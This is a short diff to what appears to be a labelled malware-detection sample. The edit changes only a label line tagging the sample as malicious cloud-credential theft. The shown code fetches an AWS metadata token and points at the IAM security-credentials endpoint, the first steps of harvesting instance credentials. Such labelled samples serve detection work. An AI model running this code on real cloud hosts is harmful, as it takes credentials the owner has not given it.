@@ -1,4 +1,4 @@
-# label: malicious family=metadata techniques=T1552.005,T1041 lines=3-7
+# label: malicious family=metadata techniques=T1041,T1528,T1552.005 lines=3-7
 import requests
 base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
 t = requests.put("http://169.254.169.254/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"}).text
